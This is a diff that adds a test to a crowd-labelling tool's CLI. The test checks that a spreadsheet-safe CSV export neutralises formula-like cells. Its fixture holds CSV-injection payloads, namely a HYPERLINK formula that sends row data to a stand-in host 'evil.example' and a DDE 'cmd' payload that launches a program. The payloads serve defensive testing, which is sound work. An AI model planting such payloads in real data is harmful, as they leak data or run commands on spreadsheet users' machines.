@@ -252,3 +252,37 @@ def test_ids_are_kept_as_written_through_pool_seed_labels_and_export(tmp_path):
         result = CliRunner().invoke(app, ["export", str(tmp_path / "p"), "--out", str(tmp_path / "x"), *extra])
         assert result.exit_code == 2 and "needs the pool: restore it there, or export csv, parquet or jsonl" in \
             " ".join(result.output.split())
+
+
+def test_spreadsheet_safe_csv_shows_formula_text_as_text(tmp_path):
+    """A pool text '=HYPERLINK("http://...?"&A2,"x")' opened from the CSV in a spreadsheet runs as a
+    formula (and can send the row away); --spreadsheet-safe prefixes such cells with '."""
+    from typer.testing import CliRunner
+
+    from crowdloop.cli import app
+
+    register_keyed_crowd()
+    hostile = ['=HYPERLINK("http://evil.example/?"&A2,"open")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
+               "\tleading tab", "a plain review", "don't = worry"]
+    texts = [hostile[i % len(hostile)] for i in range(42)]
+    pd.DataFrame({"id": [f"t{i}" for i in range(42)], "text": texts, "f": [float(i % 2) for i in range(42)]}).to_csv(
+        tmp_path / "pool.csv", index=False)
+    pd.DataFrame({"id": [f"t{i}" for i in range(42)], "label": [["a", "b"][i % 2] for i in range(42)]}).to_csv(
+        tmp_path / "key.csv", index=False)
+    cfg = {"project": "formulas", "seed": 1,
+           "pool": {"source": "csv", "path": str(tmp_path / "pool.csv"), "id_column": "id", "classes": ["a", "b"],
+                    "text_column": "text", "feature_columns": ["f"]},
+           "sampler": {"batch_size": 14, "initial_size": 14},
+           "vendor": {"name": "keyed_crowd", "params": {"answer_key": str(tmp_path / "key.csv"), "n_workers": 5,
+                                                        "accuracy": [1.0, 1.0], "spammer_fraction": 0.0}},
+           "consensus": {"redundancy": 1}, "stopping": {"max_rounds": 1}}
+    p = engine.run_in_process(Project.prepare(parse_config(cfg), str(tmp_path / "p")))
+    plain = pd.read_csv(io.BytesIO(export_labels(p, "csv").data), keep_default_na=False)
+    safe = pd.read_csv(io.BytesIO(export_labels(p, "csv", spreadsheet_safe=True).data), keep_default_na=False)
+    assert len(plain) == len(safe) == 14 and set(plain["text"]) <= set(hostile)
+    for raw, shown in zip(plain["text"], safe["text"], strict=True):
+        assert shown == ("'" + raw if raw[0] in "=+-@\t" else raw)
+    assert {"'" + text for text in hostile[:5]} & set(safe["text"])
+    assert safe["confidence"].tolist() == plain["confidence"].tolist()  # numbers are not text: untouched
+    result = CliRunner().invoke(app, ["export", str(tmp_path / "p"), "--format", "jsonl", "--spreadsheet-safe"])
+    assert result.exit_code == 2 and "--spreadsheet-safe: for --format csv" in result.output
